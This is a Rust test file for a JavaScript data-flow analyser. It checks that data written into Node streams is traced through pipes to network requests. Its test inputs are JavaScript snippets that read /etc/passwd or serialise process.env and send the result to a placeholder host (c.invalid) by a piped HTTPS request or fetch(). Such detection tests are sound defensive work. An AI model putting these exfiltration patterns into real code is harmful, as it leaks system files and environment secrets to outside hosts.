//! Data that goes through streams: what is written to one that is piped on goes where that one goes.

use foretaste_javascript::observe;
use foretaste_model::Limits;

fn flows(code: &str) -> Vec<String> {
    let facts = observe("a.mjs", code, &Limits::default());
    let flow = |f: &foretaste_model::facts::Flow| {
        let steps: Vec<_> = f.steps.iter().map(|s| &*s.api).collect();
        steps.join(" > ")
    };
    facts.flows.iter().map(flow).collect()
}

const HEAD: &str =
    "import { createGzip } from 'node:zlib'; import { PassThrough } from 'node:stream';
    import { request } from 'node:https'; import { readFile } from 'node:fs/promises';
    const up = request('https://c.invalid/put', { method: 'PUT' });\n";

#[test]
fn what_is_written_to_a_stream_goes_where_it_is_piped_to() {
    let cases = [
        (
            "const gz = createGzip(); gz.pipe(up); gz.write(await readFile('/etc/passwd')); gz.end();",
            "fs.promises.readFile > http.ClientRequest",
        ),
        // in any order, over several streams
        (
            "const a = new PassThrough(); const b = createGzip({ level: 9 }); a.end(JSON.stringify(process.env)); a.pipe(b); b.pipe(up);",
            "process.env > JSON.stringify > http.ClientRequest",
        ),
        (
            "async function* walk() { yield 'head'; yield { a: 1 }; yield [2]; yield process.env; yield* more(); } async function* more() { yield 1; yield 'a'; yield { b: 2 }; yield other; }
             const gz = createGzip(); gz.pipe(up); for await (const part of walk()) gz.write(JSON.stringify(part));",
            "process.env > JSON.stringify > http.ClientRequest",
        ),
        (
            "const gz = new CompressionStream('gzip'); const w = gz.writable.getWriter(); w.write(JSON.stringify(process.env));
             fetch('https://c.invalid', { method: 'POST', body: gz.readable, duplex: 'half' });",
            "process.env > JSON.stringify > fetch",
        ),
        (
            "class Tap extends PassThrough {} const t = new Tap(); t.write(JSON.stringify(process.env)); t.pipe(up);",
            "process.env > JSON.stringify > http.ClientRequest",
        ),
    ];
    for (code, wanted) in cases {
        let found = flows(&format!("{HEAD}{code}"));
        assert!(found.iter().any(|f| f == wanted), "{code}: {found:?}");
    }
}

#[test]
fn streams_that_go_elsewhere_send_nothing() {
    for code in [
        "import { createWriteStream } from 'node:fs'; const gz = createGzip(); gz.pipe(createWriteStream('/tmp/x.gz')); gz.end(await readFile('a.txt'));",
        "const gz = createGzip(); const other = createGzip(); gz.pipe(up); other.write(JSON.stringify(process.env)); gz.end('hello');",
        "const gz = createGzip(); gz.write(JSON.stringify(process.env)); gz.pipe(process.stdout);",
    ] {
        let found = flows(&format!("{HEAD}{code}"));
        let sends = |f: &String| f.ends_with("ClientRequest");
        assert!(!found.iter().any(sends), "{code}: {found:?}");
    }
}
